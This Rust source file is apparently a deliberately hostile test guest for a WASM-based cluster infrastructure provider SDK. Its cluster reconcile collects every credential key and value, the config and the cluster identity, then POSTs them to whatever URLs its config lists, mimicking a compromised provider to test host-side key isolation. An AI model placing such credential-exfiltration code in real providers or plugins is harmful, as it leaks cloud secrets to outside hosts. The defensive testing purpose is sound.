//! Hostile test guest: a cluster reconcile POSTs everything it was given —
//! its credentials (key and value), config, idempotency key and Cluster —
//! to every URL in its config, form-encoded after the `body` the config
//! gives (an EC2 Query API call, say). What a compromised provider would do
//! with keys in hand; with keys kept on the host it has none to send.
//!
//! It answers with a terminal error: reason `HttpStatus` naming the first
//! request answered with 400 or more, else `AllAnswered` with every
//! status; a failed request is the SDK's error for it.
#![no_std]

extern crate alloc;

use alloc::string::String;
use alloc::vec::Vec;
use core::fmt::Write as _;

use capwasm_provider_sdk::config;
use capwasm_provider_sdk::http::Request;
use capwasm_provider_sdk::infrastructure::{
    ClusterRequest, ClusterState, InfrastructureProvider, PoolDeleteRequest, PoolReconcileRequest,
    PoolRemoveRequest, PoolState,
};
use capwasm_provider_sdk::prelude::*;
use capwasm_provider_sdk::types::{DeleteOutcome, ProviderError};
use serde::Deserialize;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    requests: Vec<Target>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Target {
    url: String,
    #[serde(default)]
    body: String,
}

/// Everything the call was given, as one form field value.
fn given(request: &ClusterRequest) -> String {
    let mut text = String::new();
    for credential in &request.credentials {
        let _ = write!(
            text,
            "credential {}={};",
            credential.key,
            String::from_utf8_lossy(&credential.value)
        );
    }
    let _ = write!(
        text,
        "config={};key={};cluster={}/{}",
        request.config, request.idempotency_key, request.cluster.namespace, request.cluster.name
    );
    text
}

/// `value` percent-encoded for a form body.
fn form_encoded(value: &str) -> String {
    let mut out = String::new();
    for byte in value.bytes() {
        if byte.is_ascii_alphanumeric() || b"-_.~".contains(&byte) {
            out.push(char::from(byte));
        } else {
            let _ = write!(out, "%{byte:02X}");
        }
    }
    out
}

fn dump(request: &ClusterRequest) -> ProviderError {
    let config: Config = match config::parse(&request.config) {
        Ok(config) => config,
        Err(err) => return err,
    };
    let given = form_encoded(&given(request));
    let mut statuses = String::new();
    for target in &config.requests {
        let separator = if target.body.is_empty() { "" } else { "&" };
        let body = format!("{}{separator}Given={given}", target.body);
        let sent = Request::post(&target.url)
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
            .send();
        match sent {
            Ok(response) if response.status >= 400 => {
                return ProviderError::terminal(
                    "HttpStatus",
                    format!("POST {} returned {}", target.url, response.status),
                );
            }
            Ok(response) => {
                let _ = write!(statuses, "{} {};", target.url, response.status);
            }
            Err(err) => return err.into(),
        }
    }
    ProviderError::terminal("AllAnswered", statuses)
}

struct CredentialDump;

impl InfrastructureProvider for CredentialDump {
    fn config_schema() -> String {
        r#"{"type": "object", "additionalProperties": false, "required": ["requests"],
            "properties": {"requests": {"type": "array", "maxItems": 8, "items": {
                "type": "object", "additionalProperties": false, "required": ["url"],
                "properties": {"url": {"type": "string"}, "body": {"type": "string"}}}}}}"#
            .to_owned()
    }

    fn reconcile_machine_pool(_request: PoolReconcileRequest) -> Result<PoolState, ProviderError> {
        Err(ProviderError::terminal("NotAPool", "this guest only dumps"))
    }

    fn remove_instances(_request: PoolRemoveRequest) -> Result<PoolState, ProviderError> {
        Err(ProviderError::terminal("Unsupported", "it removes nothing"))
    }

    fn delete_machine_pool(_request: PoolDeleteRequest) -> Result<DeleteOutcome, ProviderError> {
        Ok(DeleteOutcome::Done)
    }

    fn owns(_provider_id: &str) -> bool {
        false
    }

    fn reconcile_cluster(request: ClusterRequest) -> Result<ClusterState, ProviderError> {
        Err(dump(&request))
    }
}

capwasm_provider_sdk::export_infrastructure_provider!(CredentialDump);
